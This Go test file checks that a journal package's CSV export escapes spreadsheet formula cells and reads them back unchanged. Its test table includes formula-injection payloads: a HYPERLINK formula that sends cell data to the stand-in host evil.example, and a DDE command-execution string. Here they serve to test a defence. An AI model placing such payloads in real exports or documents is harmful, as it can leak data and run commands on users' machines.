package journal

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/kindred-hri/kindred/robot"
)

// Text that a spreadsheet would run reaches it as text, numbers stay
// numbers, and ReadCSV gives back exactly what was written.
func TestCSVNeutralisesFormulaCells(t *testing.T) {
	texts := []struct {
		text, cell string // what a record holds, what its CSV cell must be
	}{
		{`=HYPERLINK("http://evil.example/?d="&A1,"click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=already quoted", "''=already quoted"}, // a leading quote of its own survives the round trip
		{"''+two", "'''+two"},
		{"'tis fine", "'tis fine"}, // a quote before no trigger is left alone
		{"'", "'"},
		{"calm = fine", "calm = fine"},
		{"", ""},
	}
	for _, tt := range texts {
		t.Run(tt.text, func(t *testing.T) {
			x := tt.text
			recs := []Record{
				Transition{At: time.Second, From: x, To: x, Reason: x, Person: x, Source: x},
				Utterance{At: 2 * time.Second, Person: x, Intent: x, Text: x, Lang: x, Tone: x, ID: x},
				Fault{At: 3 * time.Second, Component: x, Message: x},
				Annotation{At: 4 * time.Second, Person: x, Annotator: x, Scale: ScaleNRS, Rating: 3, Note: x},
				Alert{At: 5 * time.Second, Person: x, Level: Level(x), Score: -1, Reason: x},
				Assessment{At: 6 * time.Second, Person: x, Score: -2.5, Items: Items{Breathing: -1}, PSPI: -0.5,
					Confidence: -1, Cues: []string{x}, Band: "mild"},
				PoseSample{At: 7 * time.Second, Joints: robot.Pose{robot.Jaw: -1}},
			}
			var buf bytes.Buffer
			if err := WriteCSV(&buf, x, recs); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range rows[1:] {
				for i, cell := range row {
					col := CSVHeader[i]
					switch {
					case formattedColumns[col]:
						if strings.HasPrefix(cell, "'") {
							t.Errorf("%s %s: number or JSON cell %q was quoted", row[1], col, cell)
						}
					case cell != "" && strings.ContainsRune(formulaTriggers, rune(cell[0])):
						t.Errorf("%s %s: cell %q starts a formula", row[1], col, cell)
					}
				}
				for _, col := range []string{"session", "person", "reason"} {
					if c := row[column[col]]; c != "" && c != tt.cell {
						t.Errorf("%s %s: cell %q, want %q", row[1], col, c, tt.cell)
					}
				}
			}
			if score := rows[5][column["score"]]; score != "-1" {
				t.Errorf("alert score cell %q, want -1", score)
			}
			back, err := ReadCSV(&buf)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(back, recs) {
				t.Errorf("round trip differs\n got %#v\nwant %#v", back, recs)
			}
		})
	}
}

// Any string survives neutralise then unneutralise, and what neutralise
// writes never starts with a formula trigger.
func FuzzNeutraliseRoundTrip(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "''@x", "'tis", "-", "", "'", "\t", "plain"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := neutralise(s)
		if n != "" && strings.ContainsRune(formulaTriggers, rune(n[0])) {
			t.Fatalf("neutralise(%q) = %q starts a formula", s, n)
		}
		if back := unneutralise(n); back != s {
			t.Fatalf("unneutralise(neutralise(%q)) = %q", s, back)
		}
	})
}
